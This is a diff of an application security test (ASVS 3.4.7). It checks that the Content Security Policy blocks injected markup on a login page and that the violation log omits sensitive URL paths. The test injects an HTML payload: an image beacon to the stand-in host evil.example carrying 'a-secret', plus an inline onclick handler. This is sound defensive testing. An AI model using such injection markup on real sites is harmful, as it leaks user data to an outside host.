@@ -1,30 +1,24 @@
-import { afterAll, beforeAll, beforeEach, expect, test, vi } from 'vitest'
-import { type Application, startApplication } from '@/tests/support/application'
-import { browserObstacle, launchBrowser } from '@/tests/support/browser'
-import { needs } from '@/tests/support/needs'
+import { readFileSync, statSync } from 'node:fs'
+import { expect, test } from 'vitest'
+import { givenApplication } from '@/tests/support/given-application'
+import { shareBrowser } from '@/tests/support/share-browser'
 
-let app: Application | undefined
-
-beforeEach(needs(browserObstacle))
-beforeAll(async () => {
-  if (!browserObstacle) app = await startApplication()
-})
-afterAll(() => app?.stop())
+const openTab = shareBrowser({ expected: /Content Security Policy/ })
 
 test('[ASVS 3.4.7] of what injected markup tried, a browser reports to us where, and we write down nothing else', async () => {
-  const browser = await launchBrowser()
-  const page = await browser.newPage()
-  await page.goto(`${app?.url}/login`)
+  const { logFile } = givenApplication()
+  const start = statSync(logFile).size
+  const log = () => readFileSync(logFile).subarray(start).toString()
+  const page = await openTab()
+  await page.goto('/login')
 
   await page.evaluate(() => {
     const injected = '<img src="https://evil.example/a-secret"><b onclick="document.title = 1">x</b>'
     document.body.insertAdjacentHTML('beforeend', injected)
   })
 
-  await vi.waitFor(() => {
-    expect(app?.log()).toContain('"directive":"img-src","blocked":"https://evil.example","page":"/login"')
-    expect(app?.log()).toContain('"directive":"script-src-attr","blocked":"inline","page":"/login"')
-  }, 10_000)
-  expect(app?.log()).not.toContain('a-secret')
-  await browser.close()
+  const reported = expect.poll(log, { timeout: 10_000 })
+  await reported.toContain('"directive":"img-src","blocked":"https://evil.example","page":"/login"')
+  await reported.toContain('"directive":"script-src-attr","blocked":"inline","page":"/login"')
+  expect(log()).not.toContain('a-secret')
 })
